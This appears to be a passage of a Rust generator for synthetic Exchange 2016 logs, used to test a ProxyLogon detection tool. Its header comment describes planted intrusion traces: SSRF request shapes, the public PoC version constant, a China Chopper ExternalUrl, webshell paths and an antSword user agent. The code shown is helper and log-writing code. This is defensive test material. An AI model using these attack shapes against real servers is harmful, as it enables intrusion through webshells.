//! gen_tree: deterministic synthetic Exchange 2016 log tree for exhunt tests and benchmarks.
//!
//! ```text
//! cargo run --release --example gen_tree -- --out DIR --size 2G [--seed 42] [--plant]
//!     [--serverinfo-share 0.002] [--days N] [--rotate-mb 50] [--mix sparse|dense]
//!     [--owa-static-share F] [--ecp-admin-share F] [--autodiscover-json-share F]
//!     [--activesync-share F] [--backend-share F] [--probe-share F] [--noise-share F]
//! ```
//!
//! Writes, under DIR (a copy of a server's system drive):
//! * `Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/<Protocol>/HttpProxy_<yyyyMMddHH>-<n>.LOG`
//! * `inetpub/logs/LogFiles/W3SVC1/u_exYYMMDD.log` (front end) and `W3SVC2/` (back end)
//! * `.../Logging/ECP/Server/ECPServer<yyyyMMdd>-<n>.LOG`
//! * `.../Logging/OABGeneratorLog/OABGenerator<yyyyMMdd>-<n>.LOG` (invented layout; the real one is unpublished)
//! * with `--plant`: one ProxyLogon intrusion (2021-02-11 .. 2021-03-04) and `DIR/ground-truth.json`.
//!
//! Bytes (`--mix sparse`, the default): ~60 % HttpProxy, ~35 % IIS, ~5 % ECP server + OAB
//! generator logs. The time span ends
//! 2021-03-10T12:00Z and starts `--days` before (default: size / 100 MB, 4..30 days; 30 with
//! `--plant` so the intrusion is covered). Timestamps are driven by a "byte clock" with a diurnal and
//! weekly load curve, so the size is hit exactly and times only increase.
//!
//! Benign generation never consumes randomness from the plant, so for the same seed, size and
//! days, a planted tree is the unplanted tree plus the planted lines (and `#Date:` of a file that a
//! planted line opened). Std-only; own PRNG (xoshiro256**), no floating-point library calls, so the
//! output is byte-identical for a seed on every platform.
//!
//! Traffic mix. `--mix sparse` (the default) with no share flag is the original generator,
//! byte for byte: IIS filler topped up to 35 : 60 of HttpProxy, a tenth of it internet noise,
//! 3 % of IIS lines OWA static resources. `--mix dense` is a busy front end, as in issue 14: nearly
//! every IIS line is `/owa/`, `/ecp/`, `/EWS/`, `/mapi/`, `/Microsoft-Server-ActiveSync/` or
//! `/autodiscover/` traffic, a fifth are OWA static resources; HttpProxy : IIS is about 59 : 41 and
//! the ECP server + OAB generator logs 1 % of the bytes. The share flags override the preset (with
//! `--mix sparse`, a share flag switches to the share-driven generator with the sparse tree's
//! measured shares as defaults); each is a fraction of all IIS lines (W3SVC1 + W3SVC2), and
//! "other user traffic" (the HttpProxy protocols of `Mix::proto_w`, OWA logon pages) takes what
//! they leave:
//!
//! | flag | dense | sparse (measured: 2 GiB, seed 42, lines classified by their text) | lines |
//! | --- | ---: | ---: | --- |
//! | `--owa-static-share` | 0.20 | 0.029 | front-end GETs of `/owa/auth/15.1.2106/themes/resources/…` and `/owa/prem/15.1.2106/{scripts,resources}/…` (200 or 304), 1-6 per browser; no HttpProxy row |
//! | `--ecp-admin-share` | 0.05 | 0.006 | administrators in the admin center: `DDIService.svc/GetList|GetObject|SetObject?schema=…&msExchEcpCanary=…`, `Mailboxes.svc/GetList`, `.slab` pages, `/ecp/15.1.2106/{scripts,themes}/…` static files |
//! | `--autodiscover-json-share` | 0.06 | 0.013 | anonymous `GET /autodiscover/autodiscover.json?Email=<addr>&Protocol=ActiveSync&RedirectCount=1` (or `…json/v1.0/<addr>?Protocol=…`) from Outlook for iOS / Android and Outlook 2016 |
//! | `--activesync-share` | 0.14 | 0.126 | `/Microsoft-Server-ActiveSync/default.eas?Cmd=…&User=…&DeviceId=…&DeviceType=…` |
//! | `--backend-share` | 0.22 | 0.288 | lines of the back-end site W3SVC2 on :444 (requests this front end or EX02's proxies here, local probes) |
//! | `--probe-share` | 0.05 | 0.083 | load-balancer `/<vdir>/healthcheck.htm`; Managed Availability probes (`HealthMailbox<guid>`, `AMProbe/Local/ClientAccess`) through the front end from the server's own address, or straight to :444 from `127.0.0.1`, `::1` or the server's address |
//! | `--noise-share` | 0.004 | 0.021 | internet background (`/robots.txt`, `/.env`, `/wp-login.php`, …) |
//!
//! Classes are drawn by share and redrawn while ahead, so on the whole tree each share is met to
//! within a few dozen lines; the summary on stderr prints each class's share and its target. A
//! back-end share below what this front end's own requests make is met by routing some of them
//! to EX02 instead; above it, by lines that EX02's front end proxies here, which count as other
//! user traffic: a back-end share far above the front end's own (about 0.2 in the dense mix)
//! leaves other user traffic over its share and some other class under its own (e.g. dense with
//! `--backend-share 0.4 --probe-share 0.3`: probes 28 %).
//! `--serverinfo-share` and `--plant` work as with the sparse mix (planted lines and
//! `ground-truth.json` are independent of the mix).
//!
//! Webshell strings used by the plant are assembled at run time from fragments so that this source
//! file itself does not trip antivirus scanners.
//!
//! Benign noise that a `ServerInfo~` prefilter must parse (`--serverinfo-share`, default 0.002 of
//! HttpProxy rows): Managed-Availability-style `ServerInfo~<server fqdn>` (no path, any date);
//! internet scanners' autodiscover-only SSRF attempts `ServerInfo~<x>]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#`
//! via `/ecp/<x>.js` or `/owa/auth/x.js` (from 2021-02-26); Microsoft's nmap script
//! `ServerInfo~localhost/owa/auth/logon.aspx?` (from 2021-03-05). None is a Test-ProxyLogon hit;
//! exhunt should grade the attempts and the nmap rows as attempt / scanner, not as compromise.
//!
//! `--plant` (actor A 203.0.113.57 on 2021-02-11 04:27-04:36 UTC, webshell use from 203.0.113.88
//! on 02-26 and 03-04, actor B 203.0.113.77 on 03-03): SSRF rows in HttpProxy `Owa` and `Ecp`
//! (the folder is the vdir the request arrived on, `/owa/auth/...` or `/ecp/<x>.js`, as on a real
//! server) walking autodiscover.xml -> mapi/emsmdb -> proxyLogon.ecp (241) -> DDIService GetObject /
//! SetObject `OABVirtualDirectory` -> `ResetOABVirtualDirectory#` (200, Test-ProxyLogon's ResetVDir
//! shape) -> clean-up SetObject; one row whose only indicator is
//! `BackEndCookie=Server~ex01.contoso.local:444/...#~1942062522` (AnchorMailbox a plain `Sid~...-500`);
//! the ECP server log `Set-OabVirtualDirectory` with a China Chopper `ExternalUrl` (two quoting
//! layers); the OAB generator `Download failed and temporary file 'C:\inetpub\wwwroot\aspnet_client\zq7w.aspx'`;
//! IIS front-end lines for every SSRF request, the back-end `SetObject schema=ResetOABVirtualDirectory`
//! from `CONTOSO\EX01$`, and webshell POSTs (`/aspnet_client/...aspx`, `/owa/auth/k7tq2.aspx`,
//! `antSword/v2.1`). `DIR/ground-truth.json` is a JSON array of
//! `{"file": <path relative to DIR, '/'-separated>, "line": <1-based>, "check": <id>, "text": <line>}`
//! with check ids `cve-2021-26855`, `cve-2021-27065`, `cve-2021-26858`, `iis-webshell-access`,
//! `iis-proxylogon-shape` (one id per line; the ResetVDir row is `cve-2021-27065`).

use std::fs::{self, File};
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};
use std::time::Instant;

// ----------------------------------------------------------------------------------------------
// constants

const EX: &str = "Program Files/Microsoft/Exchange Server/V15";
const EX_WIN: &str = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\";
/// The 2016/2019 HttpProxy column list: the one exhunt assumes for a file without a header.
const HP_FIELDS: &str = exhunt::sources::httpproxy::DEFAULT_FIELDS;
/// IIS's default `#Fields` (Exchange servers keep it).
const IIS_FIELDS: &str = exhunt::sources::w3c::DEFAULT_FIELDS;
/// Exchange 2016 CU18 (15.1.2106.2): vulnerable, pre-March-2021 SU. `#Version:` matches the build columns.
const HP_VERSION: &str = "15.01.2106.002";
const BUILD: &str = "15,1,2106,2";
const BLD_DOT: &str = "15.1.2106.2";
const TARGET_VER: &str = "15.01.2106.000";
/// ServerVersion.ToInt() of 15.1.2106 (0x70000000 | major<<22 | minor<<16 | 0x8000 | build).
const BE_VER: u64 = 0x7000_0000 | (15 << 22) | (1 << 16) | 0x8000 | 2106;
/// The constant the public ProxyLogon PoCs put in X-BEResource (15.1.1466).
const POC_VER: &str = "1942062522";
const FE_HOST: &str = "EX01";
const SERVERS: [&str; 2] = ["ex01.contoso.local", "ex02.contoso.local"];
const SERVER_IP: [[u8; 4]; 2] = [[10, 20, 0, 15], [10, 20, 0, 16]];
const MACHINE: [&str; 2] = ["CONTOSO\\EX01$", "CONTOSO\\EX02$"];
const LB_IP: [u8; 4] = [10, 20, 0, 5];
const PUBLIC_IP: &str = "198.51.100.10";
const SID_PREFIX: &str = "S-1-5-21-1004336348-1177238915-682003330-";
const EXT_HOST: &str = "mail.contoso.com";
const HOUR: i64 = 3_600_000;
const DAY: i64 = 86_400_000;

const PROTOS: [&str; 11] = [
    "Autodiscover",
    "Eas",
    "Ecp",
    "Ews",
    "Mapi",
    "Oab",
    "Owa",
    "OwaCalendar",
    "PowerShell",
    "RpcHttp",
    "Rest",
];
const P_AUTOD: usize = 0;
const P_EAS: usize = 1;
const P_ECP: usize = 2;
const P_EWS: usize = 3;
const P_MAPI: usize = 4;
const P_OAB: usize = 5;
const P_OWA: usize = 6;
const P_OWACAL: usize = 7;
const P_PS: usize = 8;
const P_RPC: usize = 9;
/// Share of HttpProxy lines per protocol (Mapi/Ews/Eas/Owa/RpcHttp big, the rest small).
const PROTO_W: [u32; 11] = [7, 15, 2, 18, 30, 2, 12, 1, 2, 10, 1];

// ----------------------------------------------------------------------------------------------
// PRNG: xoshiro256** seeded by splitmix64; only integer and basic IEEE arithmetic.

#[derive(Clone)]
struct Rng([u64; 4]);

fn splitmix(x: &mut u64) -> u64 {
    *x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = *x;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

impl Rng {
    fn new(seed: u64, stream: u64) -> Rng {
        let mut x = seed ^ stream.wrapping_mul(0xD1B5_4A32_D192_ED03);
        Rng([
            splitmix(&mut x),
            splitmix(&mut x),
            splitmix(&mut x),
            splitmix(&mut x),
        ])
    }
    #[inline]
    fn next(&mut self) -> u64 {
        let s = &mut self.0;
        let r = s[1].wrapping_mul(5).rotate_left(7).wrapping_mul(9);
        let t = s[1] << 17;
        s[2] ^= s[0];
        s[3] ^= s[1];
        s[1] ^= s[2];
        s[0] ^= s[3];
        s[2] ^= t;
        s[3] = s[3].rotate_left(45);
        r
    }
    #[inline]
    fn below(&mut self, n: u64) -> u64 {
        ((self.next() as u128 * n as u128) >> 64) as u64
    }
    #[inline]
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }
    #[inline]
    fn f64(&mut self) -> f64 {
        (self.next() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
    #[inline]
    fn chance(&mut self, p: f64) -> bool {
        self.f64() < p
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
    fn wpick(&mut self, w: &[u32]) -> usize {
        let tot: u32 = w.iter().sum();
        let mut x = self.below(tot as u64) as u32;
        for (i, &wi) in w.iter().enumerate() {
            if x < wi {
                return i;
            }
            x -= wi;
        }
        w.len() - 1
    }
    fn wpick_f(&mut self, w: &[f64]) -> usize {
        let tot: f64 = w.iter().sum();
        let mut x = self.f64() * tot;
        for (i, &wi) in w.iter().enumerate() {
            if x < wi {
                return i;
            }
            x -= wi;
        }
        w.len() - 1
    }
    /// Approximately standard normal (Irwin-Hall of 4 uniforms, rescaled; bounded +-3.46).
    fn normal(&mut self) -> f64 {
        let s = self.f64() + self.f64() + self.f64() + self.f64();
        (s - 2.0) * 1.732_050_807_568_877_2
    }
    /// Log-normal with the given median (deterministic exp).
    fn lognorm(&mut self, median: f64, sigma: f64) -> u64 {
        let v = median * exp_det(sigma * self.normal());
        if v < 0.0 { 0 } else { (v + 0.5) as u64 }
    }
    fn guid(&mut self) -> [u8; 16] {
        let a = self.next().to_le_bytes();
        let b = self.next().to_le_bytes();
        let mut g = [0u8; 16];
        g[..8].copy_from_slice(&a);
        g[8..].copy_from_slice(&b);
        g[6] = (g[6] & 0x0f) | 0x40;
        g[8] = (g[8] & 0x3f) | 0x80;
        g
    }
    fn alnum(&mut self, s: &mut String, n: usize) {
        const A: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
        for _ in 0..n {
            s.push(A[self.below(A.len() as u64) as usize] as char);
        }
    }
    fn lower(&mut self, s: &mut String, n: usize) {
        for _ in 0..n {
            s.push((b'a' + self.below(26) as u8) as char);
        }
    }
    /// ECP / OWA canary: 76 base64url characters and a trailing dot.
    fn canary(&mut self, s: &mut String) {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        for _ in 0..76 {
            s.push(A[(self.next() & 63) as usize] as char);
        }
        s.push('.');
    }
}

/// exp(x) with range reduction and a Taylor series: identical on every platform.
fn exp_det(x: f64) -> f64 {
    const LN2: f64 = std::f64::consts::LN_2;
    let n = if x >= 0.0 {
        (x / LN2 + 0.5) as i64
    } else {
        (x / LN2 - 0.5) as i64
    };
    let r = x - n as f64 * LN2;
    let mut term = 1.0;
    let mut sum = 1.0;
    for k in 1..14 {
        term = term * r / k as f64;
        sum += term;
    }
    let mut v = sum;
    if n > 0 {
        for _ in 0..n {
            v *= 2.0;
        }
    } else {
        for _ in 0..(-n) {
            v *= 0.5;
        }
    }
    v
}

// ----------------------------------------------------------------------------------------------
// formatting helpers (no allocation)

#[inline]
fn ps(b: &mut Vec<u8>, s: &str) {
    b.extend_from_slice(s.as_bytes());
}
#[inline]
fn pc(b: &mut Vec<u8>) {
    b.push(b',');
}
fn pu(b: &mut Vec<u8>, mut n: u64) {
    let mut tmp = [0u8; 20];
    let mut i = 20;
    loop {
        i -= 1;
        tmp[i] = b'0' + (n % 10) as u8;
        n /= 10;
        if n == 0 {
            break;
        }
    }
    b.extend_from_slice(&tmp[i..]);
}
/// zero-padded to at least `w` digits
fn pz(b: &mut Vec<u8>, mut n: u64, w: usize) {
    let mut tmp = [b'0'; 20];
    let mut i = 20;
    while n > 0 {
        i -= 1;
        tmp[i] = b'0' + (n % 10) as u8;
        n /= 10;
    }
    let start = i.min(20 - w);
    b.extend_from_slice(&tmp[start..]);
}
const HEXL: &[u8; 16] = b"0123456789abcdef";
const HEXU: &[u8; 16] = b"0123456789ABCDEF";
fn pguid_x(b: &mut Vec<u8>, g: &[u8; 16], hex: &[u8; 16], dashes: bool) {
    for (i, x) in g.iter().enumerate() {
        if dashes && (i == 4 || i == 6 || i == 8 || i == 10) {
            b.push(b'-');
        }
        b.push(hex[(x >> 4) as usize]);
        b.push(hex[(x & 15) as usize]);
    }
}
#[inline]
fn pguid(b: &mut Vec<u8>, g: &[u8; 16]) {
    pguid_x(b, g, HEXL, true)
}
fn sguid(s: &mut String, g: &[u8; 16]) {
    let mut v = Vec::with_capacity(36);
    pguid(&mut v, g);
    s.push_str(std::str::from_utf8(&v).unwrap());
}
fn sguid_up(s: &mut String, g: &[u8; 16]) {
    let mut v = Vec::with_capacity(36);
    pguid_x(&mut v, g, HEXU, true);
    s.push_str(std::str::from_utf8(&v).unwrap());
}
fn shex(s: &mut String, g: &[u8; 16], upper: bool) {
    let mut v = Vec::with_capacity(32);
    pguid_x(&mut v, g, if upper { HEXU } else { HEXL }, false);
    s.push_str(std::str::from_utf8(&v).unwrap());
}
fn pip(b: &mut Vec<u8>, ip: [u8; 4]) {
    for (i, o) in ip.iter().enumerate() {
        if i > 0 {
            b.push(b'.');
        }
        pu(b, *o as u64);
    }
}
fn needs_quote(s: &[u8]) -> bool {
    s.iter()
        .any(|&c| c == b',' || c == b'"' || c == b'\r' || c == b'\n')
}
/// CSV field: quoted when it holds `,` or `"`, inner `"` doubled.
fn pcsv(b: &mut Vec<u8>, s: &str) {
    pcsv_pre(b, "", s)
}
fn pcsv_pre(b: &mut Vec<u8>, pre: &str, s: &str) {
    if needs_quote(s.as_bytes()) {
        b.push(b'"');
        ps(b, pre);
        for &c in s.as_bytes() {
            if c == b'"' {
                b.push(b'"');
            }
            b.push(c);
        }
        b.push(b'"');
    } else {
        ps(b, pre);
        ps(b, s);
    }
}
/// IIS W3C value: spaces become `+`, empty becomes `-`.
fn piis(b: &mut Vec<u8>, s: &str) {
    if s.is_empty() {
        b.push(b'-');
        return;
    }
    for &c in s.as_bytes() {
        b.push(if c == b' ' { b'+' } else { c });
    }
}
fn decimal(b: &mut Vec<u8>, rng: &mut Rng, int_max: u64, frac_digits: usize) {
    pu(b, rng.below(int_max + 1));
    b.push(b'.');
    let mut m = 1u64;
    for _ in 0..frac_digits {
        m *= 10;
    }
    pz(b, rng.below(m), frac_digits);
}

// ----------------------------------------------------------------------------------------------
// time

fn days_from_civil(y: i64, m: i64, d: i64) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = if y >= 0 { y } else { y - 399 } / 400;
    let yoe = y - era * 400;
    let mp = (m + 9) % 12;
    let doy = (153 * mp + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}
fn civil_from_days(z: i64) -> (i64, u64, u64) {
    let z = z + 719_468;
    let era = if z >= 0 { z } else { z - 146_096 } / 146_097;
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    (if m <= 2 { y + 1 } else { y }, m as u64, d as u64)
}
/// UTC milliseconds since the epoch.
fn ts(y: i64, mo: i64, d: i64, h: i64, mi: i64, s: i64, ms: i64) -> i64 {
    days_from_civil(y, mo, d) * DAY + h * HOUR + mi * 60_000 + s * 1000 + ms
}
struct Dt {
    y: u64,
    mo: u64,
    d: u64,
    h: u64,
    mi: u64,
    s: u64,
    ms: u64,
}
fn dt(t: i64) -> Dt {
    let (y, mo, d) = civil_from_days(t.div_euclid(DAY));
    let r = t.rem_euclid(DAY) as u64;
    Dt {
        y: y as u64,
        mo,
        d,
        h: r / 3_600_000,
        mi: r / 60_000 % 60,
        s: r / 1000 % 60,
        ms: r % 1000,
    }
}
fn pdate(b: &mut Vec<u8>, d: &Dt) {
    pz(b, d.y, 4);
    b.push(b'-');
    pz(b, d.mo, 2);
    b.push(b'-');
    pz(b, d.d, 2);
}
fn phms(b: &mut Vec<u8>, d: &Dt) {
    pz(b, d.h, 2);
    b.push(b':');
    pz(b, d.mi, 2);
    b.push(b':');
    pz(b, d.s, 2);
}
/// 2021-03-01T04:12:33.412Z
fn p_iso(b: &mut Vec<u8>, t: i64) {
    let d = dt(t);
    pdate(b, &d);
    b.push(b'T');
    phms(b, &d);
    b.push(b'.');
    pz(b, d.ms, 3);
    b.push(b'Z');
}
/// 2021-03-01 04:12:33
fn p_iis(b: &mut Vec<u8>, t: i64) {
    let d = dt(t);
    pdate(b, &d);
    b.push(b' ');
    phms(b, &d);
}
/// .NET ticks
fn ticks(t: i64) -> u64 {
    ((t + 62_135_596_800_000) * 10_000) as u64
}

// ----------------------------------------------------------------------------------------------
// byte clock: maps the fraction of a stream's bytes written to a time, following an hourly load curve

struct Clock {
    start: i64,
    cum: Vec<f64>,
    h: usize,
}

impl Clock {
    fn new(start: i64, hours: usize, diurnal: bool, rng: &mut Rng) -> Clock {
        let mut cum = Vec::with_capacity(hours + 1);
        let mut acc = 0.0;
        cum.push(0.0);
        for i in 0..hours {
            let t = start + i as i64 * HOUR;
            let day = t.div_euclid(DAY);
            let weekday = (day + 4).rem_euclid(7); // 0 = Sunday
            let lh = ((t.rem_euclid(DAY) / HOUR) + 1) % 24; // local time UTC+1
            let mut w = if diurnal {
                const CURVE: [f64; 24] = [
                    0.12, 0.10, 0.10, 0.10, 0.11, 0.14, 0.30, 0.70, 1.00, 1.00, 1.00, 0.95, 0.85,
                    0.95, 1.00, 1.00, 0.95, 0.70, 0.45, 0.32, 0.30, 0.26, 0.20, 0.15,
                ];
                let c = CURVE[lh as usize];
                if weekday == 0 || weekday == 6 {
                    0.08 + c * 0.2
                } else {
                    c
                }
            } else {
                1.0
            };
            w *= 0.85 + 0.3 * rng.f64();
            acc += w;
            cum.push(acc);
        }
        Clock { start, cum, h: 0 }
    }
    fn at(&mut self, done: u64, target: u64) -> i64 {
        let total = *self.cum.last().unwrap();
        let f = (done as f64 / target as f64).min(0.999_999_9);
        let x = f * total;
        let n = self.cum.len() - 1;
        while self.h + 1 < n && self.cum[self.h + 1] <= x {
            self.h += 1;
        }
        let (lo, hi) = (self.cum[self.h], self.cum[self.h + 1]);
        let frac = ((x - lo) / (hi - lo)).clamp(0.0, 0.999_999);
        self.start + self.h as i64 * HOUR + (frac * HOUR as f64) as i64
    }
}

// ----------------------------------------------------------------------------------------------
// log files

#[derive(Clone, Copy, PartialEq)]
enum Kind {
    HttpProxy,
    Iis,
    Ecp,
    Oab,
}

struct LogFile {
    rel: String,
    w: BufWriter<File>,
    bytes: u64,
    lines: u64,
}

impl LogFile {
    fn line(&mut self, l: &[u8]) -> io::Result<()> {
        self.w.write_all(l)?;
        self.w.write_all(b"\r\n")?;
        self.bytes += l.len() as u64 + 2;
        self.lines += 1;
        Ok(())
    }
}

/// A rolling log: one file per period (hour or day), `-<n>` suffix when a file passes `rotate` bytes.
struct Roller {
    root: PathBuf,
    dir: String,
    kind: Kind,
    period: i64,
    rotate: u64,
    cur: Option<LogFile>,
    key: i64,
    seq: u32,
    benign_key: i64,
    header_len: u64,
    repeat_key: i64,
    hdr: Vec<u8>,
    total_bytes: u64,
    files: u64,
}

impl Roller {
    fn new(root: &Path, dir: String, kind: Kind, rotate: u64) -> io::Result<Roller> {
        fs::create_dir_all(root.join(&dir))?;
        let period = if kind == Kind::HttpProxy { HOUR } else { DAY };
        let mut r = Roller {
            root: root.to_path_buf(),
            dir,
            kind,
            period,
            rotate,
            cur: None,
            key: i64::MIN,
            seq: 0,
            benign_key: i64::MIN,
            header_len: 0,
            repeat_key: i64::MIN,
            hdr: Vec::new(),
            total_bytes: 0,
            files: 0,
        };
        let mut h = Vec::new();
        r.header(0, &mut h);
        r.header_len = h.len() as u64;
        Ok(r)
    }

    fn header(&self, t: i64, h: &mut Vec<u8>) {
        h.clear();
        match self.kind {
            Kind::HttpProxy => {
                for l in [HP_FIELDS, "#Software: Microsoft Exchange Server"] {
                    ps(h, l);
                    ps(h, "\r\n");
                }
                ps(h, "#Version: ");
                ps(h, HP_VERSION);
                ps(h, "\r\n#Log-type: HttpProxy Logs\r\n#Date: ");
                p_iso(h, t);
                ps(h, "\r\n#Fields: ");
                ps(h, HP_FIELDS);
                ps(h, "\r\n");
            }
            Kind::Iis => {
                ps(
                    h,
                    "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: ",
                );
                p_iis(h, t);
                ps(h, "\r\n");
                ps(h, IIS_FIELDS);
                ps(h, "\r\n");
            }
            Kind::Ecp => {
                ps(
                    h,
                    "#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n#Date: ",
                );
                p_iso(h, t);
                ps(h, "\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n");
            }
            Kind::Oab => {
                ps(h, "#Software: Microsoft Exchange Server\r\n#Version: ");
                ps(h, HP_VERSION);
                ps(h, "\r\n#Log-type: OAB Generator Log\r\n#Date: ");
                p_iso(h, t);
                ps(
                    h,
                    "\r\n#Fields: DateTime,ProcessId,ThreadId,Level,Component,OfflineAddressBook,OrganizationMailbox,Message\r\n",
                );
            }
        }
    }

    fn file_name(&self, key: i64, seq: u32) -> String {
        let d = dt(key * self.period);
        let mut b = Vec::new();
        match self.kind {
            Kind::HttpProxy => {
                ps(&mut b, "HttpProxy_");
                pz(&mut b, d.y, 4);
                pz(&mut b, d.mo, 2);
                pz(&mut b, d.d, 2);
                pz(&mut b, d.h, 2);
            }
            Kind::Iis => {
                ps(&mut b, "u_ex");
                pz(&mut b, d.y % 100, 2);
                pz(&mut b, d.mo, 2);
                pz(&mut b, d.d, 2);
            }
            Kind::Ecp | Kind::Oab => {
                ps(
                    &mut b,
                    if self.kind == Kind::Ecp {
                        "ECPServer"
                    } else {
                        "OABGenerator"
                    },
                );
                pz(&mut b, d.y, 4);
                pz(&mut b, d.mo, 2);
                pz(&mut b, d.d, 2);
            }
        }
        if self.kind == Kind::Iis {
            if seq > 1 {
                ps(&mut b, "_");
                pu(&mut b, seq as u64);
            }
            ps(&mut b, ".log");
        } else {
            ps(&mut b, "-");
            pu(&mut b, seq as u64);
            ps(&mut b, ".LOG");
        }
        String::from_utf8(b).unwrap()
    }

    fn close(&mut self) -> io::Result<()> {
        if let Some(mut f) = self.cur.take() {
            f.w.flush()?;
            self.total_bytes += f.bytes;
        }
        Ok(())
    }

    /// Writes one line at time `t`; returns the bytes the benign byte clock must account for
    /// (line, plus a header the first time the benign stream enters a period), and the
    /// file and 1-based line number written.
    fn write(&mut self, t: i64, line: &[u8], benign: bool) -> io::Result<(u64, u64)> {
        let key = t.div_euclid(self.period).max(self.key);
        let mut acc = line.len() as u64 + 2;
        let new_period = key != self.key;
        let full = self.cur.as_ref().is_some_and(|f| f.bytes >= self.rotate);
        if self.cur.is_none() || new_period || full {
            self.close()?;
            self.seq = if new_period { 1 } else { self.seq + 1 };
            self.key = key;
            let rel = format!("{}/{}", self.dir, self.file_name(key, self.seq));
            let f = File::create(self.root.join(&rel))?;
            let mut lf = LogFile {
                rel,
                w: BufWriter::with_capacity(1 << 20, f),
                bytes: 0,
                lines: 0,
            };
            let mut h = std::mem::take(&mut self.hdr);
            self.header(t, &mut h);
            lf.w.write_all(&h)?;
            lf.bytes += h.len() as u64;
            lf.lines += h.iter().filter(|&&c| c == b'\n').count() as u64;
            self.hdr = h;
            self.cur = Some(lf);
            self.files += 1;
            if full && benign && !new_period {
                acc += self.header_len;
            }
        }
        if benign && key != self.benign_key {
            acc += self.header_len;
            self.benign_key = key;
        }
        // IIS: a service restart re-writes the directive block mid-file (one day in seven, after 03:00).
        if self.kind == Kind::Iis
            && benign
            && key != self.repeat_key
            && key.rem_euclid(7) == 3
            && t.rem_euclid(DAY) >= 3 * HOUR
        {
            self.repeat_key = key;
            let mut h = std::mem::take(&mut self.hdr);
            self.header(t, &mut h);
            let f = self.cur.as_mut().unwrap();
            f.w.write_all(&h)?;
            f.bytes += h.len() as u64;
            f.lines += h.iter().filter(|&&c| c == b'\n').count() as u64;
            acc += h.len() as u64;
            self.hdr = h;
        }
        let f = self.cur.as_mut().unwrap();
        f.line(line)?;
        Ok((acc, f.lines))
    }

    fn rel(&self) -> &str {
        &self.cur.as_ref().unwrap().rel
    }
}

// ----------------------------------------------------------------------------------------------
// the simulated organisation

struct Ua {
    hp: String,
    iis: String,
}

struct User {
    sam: String,
    smtp: String,
    rid: u32,
    mbx: [u8; 16],
    db: usize,
    ip_int: [u8; 4],
    ip_ext: [u8; 4],
    outlook: usize,
    browser: usize,
    ews: usize,
    mobile: Option<(usize, String, &'static str)>,
    creq: [u8; 16],
}

struct World {
    uas: Vec<Ua>,
    users: Vec<User>,
    mobile_users: Vec<usize>,
    admins: Vec<usize>,
    health: Vec<String>,
    dbs: Vec<[u8; 16]>,
    db_srv: Vec<usize>,
    oab: [u8; 16],
    org_mbx: [u8; 16],
    ua_browser: Vec<usize>,
    ua_ews: Vec<usize>,
    ua_scanner: Vec<usize>,
    u: NamedUas,
}

#[derive(Default)]
struct NamedUas {
    msrpc: usize,
    bits: usize,
    winrm: usize,
    probe: usize,
    ps_probe: usize,
    gcal: usize,
    outlook_mobile: usize,
    python: usize,
    ews_poc: usize,
    yandex: usize,
    antsword: usize,
    nmap: usize,
    zgrab: usize,
    chrome74: usize,
    outlook_ios: usize,
    outlook_android: usize,
}

const FIRST: &[&str] = &[
    "James",
    "Mary",
    "John",
    "Patricia",
    "Robert",
    "Jennifer",
    "Michael",
    "Linda",
    "William",
    "Elizabeth",
    "David",
    "Barbara",
    "Richard",
    "Susan",
    "Joseph",
    "Jessica",
    "Thomas",
    "Sarah",
    "Charles",
    "Karen",
    "Daniel",
    "Nancy",
    "Matthew",
    "Lisa",
    "Anthony",
    "Betty",
    "Mark",
    "Sandra",
    "Paul",
    "Ashley",
    "Steven",
    "Kimberly",
    "Andrew",
    "Emily",
    "Kenneth",
    "Donna",
    "Joshua",
    "Michelle",
    "Kevin",
    "Carol",
    "Brian",
    "Amanda",
    "George",
    "Melissa",
    "Timothy",
    "Deborah",
    "Ronald",
    "Stephanie",
    "Jason",
    "Rebecca",
    "Lars",
    "Ingrid",
    "Pierre",
    "Sophie",
    "Jan",
    "Anna",
    "Marco",
    "Giulia",
    "Hans",
    "Petra",
];
const LAST: &[&str] = &[
    "Smith",
    "Johnson",
    "Williams",
    "Brown",
    "Jones",
    "Garcia",
    "Miller",
    "Davis",
    "Rodriguez",
    "Martinez",
    "Hernandez",
    "Lopez",
    "Gonzalez",
    "Wilson",
    "Anderson",
    "Thomas",
    "Taylor",
    "Moore",
    "Jackson",
    "Martin",
    "Lee",
    "Perez",
    "Thompson",
    "White",
    "Harris",
    "Sanchez",
    "Clark",
    "Ramirez",
    "Lewis",
    "Robinson",
    "Walker",
    "Young",
    "Allen",
    "King",
    "Wright",
    "Scott",
    "Torres",
    "Nguyen",
    "Hill",
    "Flores",
    "Green",
    "Adams",
    "Nelson",
    "Baker",
    "Hall",
    "Rivera",
    "Campbell",
    "Mitchell",
    "Carter",
    "Roberts",
    "Hansen",
    "Berg",
    "Dubois",
    "Moreau",
    "Jansen",
    "Rossi",
    "Bianchi",
    "Schmidt",
    "Weber",
    "Novak",
];

